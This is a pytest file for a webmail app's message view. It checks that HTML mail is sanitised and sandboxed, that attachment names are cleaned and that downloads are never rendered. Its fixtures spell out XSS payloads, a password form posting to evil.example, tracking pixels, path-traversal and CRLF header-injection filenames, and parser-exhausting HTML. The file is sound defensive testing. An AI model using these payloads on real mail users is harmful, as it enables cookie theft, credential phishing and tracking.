"""One message: hostile HTML in its frame, attachments as downloads, the original byte for byte (C-4.7)."""

import re
import time

import pytest
from django.http import HttpRequest

from stadtmail.doors.web import downloads, mailhtml
from tests.doors.web import cast
from tests.doors.web.browsing import Browser

HTML = b"""From: Karl <karl@example.org>
To: anna.k@ahaus.net
Subject: Bunt
Date: Mon, 23 Nov 2026 09:00:00 +0000
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=out

--out
Content-Type: multipart/alternative; boundary=in

--in
Content-Type: text/plain; charset=utf-8

Nur Text: https://example.org/a?b=1&c=2.
> zitiert
--in
Content-Type: text/html; charset=utf-8

<html><head><style>@import url(https://evil.example/x.css)</style></head><body onload="steal()">
<h1>Hallo</h1><script>alert(document.cookie)</script>
<img src="https://evil.example/pixel.gif"><img src="//evil.example/b.png"><img src="cid:logo">
<p style="background:url(https://evil.example/y);color:red">rot</p>
<a href="javascript:alert(1)">a</a><a href="https://example.org/">b</a>
<form action="https://evil.example/"><input name=password></form>
<iframe src="https://evil.example/"></iframe><svg onload=alert(1)></svg><base href="https://evil.example/">
<meta http-equiv=refresh content="0;url=https://evil.example/"></body></html>
--in--
--out
Content-Type: text/html; name="../../<b>rechnung</b>.html"
Content-Disposition: attachment; filename="../../rechnung.html"
Content-Transfer-Encoding: base64

PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
--out--
""".replace(b"\n", b"\r\n")


@pytest.fixture
def anna(ahaus, now) -> Browser:
    cast.resident(ahaus, "anna.k", now)
    browser = Browser()
    browser.login("anna.k@ahaus.net", cast.PASSWORD)
    return browser


def newest(browser: Browser) -> str:
    return next(link for link in browser.get("/postfach").links if re.fullmatch(r"/postfach/\d+/\d+", link))


def test_html_lies_in_a_frame_that_reaches_nobody(anna, now) -> None:
    cast.deliver(HTML, "anna.k@ahaus.net", now=now)
    link = newest(anna)
    page = anna.get(link)
    (frame,) = [given for tag, given in page.tags if tag == "iframe"]
    assert frame["src"] == f"{link}/html"
    assert "allow-scripts" not in frame["sandbox"]
    assert "allow-same-origin" not in frame["sandbox"]
    assert "3 fremde Inhalte wurden nicht geladen" in page.text
    shown = anna.raw(f"{link}/html")
    assert shown.headers["Content-Security-Policy"] == mailhtml.FRAME_POLICY
    assert shown.headers["X-Frame-Options"] == "SAMEORIGIN"
    assert shown.headers["Cache-Control"] == "no-store"
    body = shown.content.decode()
    assert "<h1>Hallo</h1>" in body
    for trace in ("evil.example", "<script", "onload", "javascript:", "<form", "<iframe", "<svg", "<base", "http-equiv", "password"):
        assert trace not in body.lower(), trace


def test_plain_text_can_be_chosen_and_has_its_links(anna, now) -> None:
    cast.deliver(HTML, "anna.k@ahaus.net", now=now)
    page = anna.get(f"{newest(anna)}?als=text")
    assert not any(tag == "iframe" for tag, _ in page.tags)
    (link,) = [given for tag, given in page.tags if tag == "a" and given.get("href") == "https://example.org/a?b=1&c=2"]
    assert "noopener" in link["rel"]
    assert any(tag == "blockquote" for tag, _ in page.tags)


def test_an_attachment_is_always_a_download(anna, now) -> None:
    cast.deliver(HTML, "anna.k@ahaus.net", now=now)
    part = next(link for link in anna.get(newest(anna)).links if "/teil/" in link)
    response = anna.raw(part)
    assert response.getvalue() == b"<script>alert(1)</script>"
    assert response.headers["Content-Type"] == "application/octet-stream"
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert ".." not in response.headers["Content-Disposition"]
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert response.headers["Cache-Control"] == "no-store"


def test_the_original_is_what_arrived(anna, now) -> None:
    cast.deliver(HTML, "anna.k@ahaus.net", now=now)
    response = anna.raw(f"{newest(anna)}/quelltext")
    assert response.getvalue().endswith(HTML)
    assert response.headers["Content-Disposition"].startswith("attachment")


HEAD = b"From: a@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n%s\r\n"


def test_a_message_without_html_has_no_frame_document(anna, now) -> None:
    cast.deliver(b"From: a@example.org\r\nSubject: x\r\n\r\nnur Text <b>roh</b>\r\n", "anna.k@ahaus.net", now=now)
    link = newest(anna)
    assert b"nur Text &lt;b&gt;roh&lt;/b&gt;" in anna.get(link).response.content
    anna.raw(f"{link}/html", status=404)


def test_html_of_which_nothing_may_be_shown_says_so(anna, now) -> None:
    cast.deliver(HEAD % b"<script>alert(1)</script><svg><text>x</text></svg>&nbsp;<img src=//evil.example/a>", "anna.k@ahaus.net", now=now)
    page = anna.get(newest(anna))
    assert "die wir zu Ihrem Schutz nicht zeigen" in page.text
    assert not [tag for tag, _ in page.tags if tag == "iframe"]


@pytest.mark.parametrize(
    ("html", "visible"),
    [("<p> </p>", False), ("<img>", False), ("&nbsp;\u200b", False),
     ('<img alt="Logo">', True), ('<img src="data:x">', True), ("<b>x", True)],
)
def test_what_shows_at_all(html: str, visible: bool) -> None:
    assert mailhtml.is_visible(html) is visible


BROKEN = [b"", b"\r\n", b"\x00\xff\xfe", b"Subject: =?utf-8?b?////?=\r\n\r\n\xff", b"From: <>\r\nDate: gestern\r\n\r\n"]


@pytest.mark.parametrize("raw", BROKEN)
def test_broken_mail_still_has_a_page(anna, now, raw) -> None:
    cast.deliver(raw, "anna.k@ahaus.net", now=now)
    anna.get(newest(anna))


@pytest.mark.parametrize(
    ("given", "kept"),
    [("../../etc/passwd", "passwd"), ("C:\\boot\\x.txt", "x.txt"), ("rechnung\u202efdp.exe", "rechnungfdp.exe"),
     ("a\r\nSet-Cookie: x", "aSet-Cookie x"), ("", "datei"), ("...", "datei"), ("Größe.pdf", "Größe.pdf"),
     ("x" * 300 + ".pdf", "x" * 116 + ".pdf")],
)  # fmt: skip
def test_file_names_lose_what_could_harm(given, kept) -> None:
    assert downloads.safe_name(given) == kept


@pytest.mark.parametrize("kind", ["text/html", "image/svg+xml", "application/xhtml+xml", "text/xml", "application/javascript", "x", ""])
def test_types_that_a_browser_runs_become_bytes(kind) -> None:
    assert downloads.streamed(HttpRequest(), [b"x"], "x", kind=kind).headers["Content-Type"] == "application/octet-stream"


# what a stranger writes -> how many foreign things it names, and what of it is shown
REMOTE = [
    ('<img src="//evil.example/a">', 1, "<img>"),
    ('<img srcset="https://evil.example/a 1x">', 1, "<img>"),
    ('<p style="color:red;background:url(//evil.example/a)">x</p>', 1, '<p style="color:red">x</p>'),
    ("<p style=\"background:url(data:x);list-style-image:url(  'https://evil.example')\">x</p>", 1, "<p>x</p>"),
    ('<p style="width:1px;background:u\\72l(//evil.example)">x</p>', 0, '<p style="width:1px">x</p>'),
    ('<img src="data:text/html;base64,PHNjcmlwdD4=">', 0, "<img>"),
    ('<img src="data:image/svg+xml;base64,PHN2Zz4=">', 0, "<img>"),
    ('<img src="cid:fehlt">', 0, "<img>"),
    ('<img src="cid:logo">', 0, '<img src="data:image/png;base64,eA==">'),
    ('<img src="cid:svg">', 0, "<img>"),
    ('<div style="position:fixed;inset:0;z-index:9">x</div>', 0, "<div>x</div>"),
    ('<a href="//evil.example">x</a>', 0, None),
]


@pytest.mark.parametrize(("html", "blocked", "shown"), REMOTE)
def test_nothing_is_fetched_and_everything_foreign_is_counted(html, blocked, shown) -> None:
    safe = mailhtml.safe(html, {"logo": ("image/png", b"x"), "svg": ("image/svg+xml", b"<svg/>")})
    assert safe.blocked == blocked
    assert "evil.example" not in safe.html
    if shown is not None:
        assert safe.html.replace(' style=""', "") == shown


@pytest.mark.parametrize(
    "html", ["<div>" * 400_000, "<img " + " ".join(f"a{n}=x" for n in range(150_000)) + ">", "<a><b><i><u>" * 90_000, "<" * 2_000_000]
)
def test_html_that_would_keep_the_cleaner_busy_is_cut(html) -> None:
    began = time.process_time()
    assert mailhtml.safe(html, {}).is_cut
    assert time.process_time() - began < 8


def test_large_pictures_that_the_html_carries_do_not_count() -> None:
    picture = "data:image/png;base64," + "A" * 800_000
    safe = mailhtml.safe(f'<img src="{picture}"><p>nach dem Bild</p>', {})
    assert not safe.is_cut
    assert safe.html == f'<img src="{picture}"><p>nach dem Bild</p>'


def test_a_picture_that_is_named_ten_thousand_times_fills_no_memory() -> None:
    picture = b"\x89PNG\r\n\x1a\n" + b"x" * 1_000_000
    own = mailhtml.safe('<img src="cid:logo">' * 10_000, {"logo": ("image/png", picture)}).html
    carried = "data:image/png;base64," + "A" * 1_000_000
    again = mailhtml.safe(f'<img src="{carried}">' + '<img src="cid:carried-0">' * 10_000, {}).html
    for html in (own, again):
        assert 10 < html.count("data:image/png") < 100
        assert len(html) < 1.1 * mailhtml.SHOWN_CHARS
    remote = mailhtml.safe('<img src="cid:logo">' * 100 + '<img src="https://bild.example/x.png">', {"logo": ("image/png", picture)})
    assert remote.remote == ("https://bild.example/x.png",)
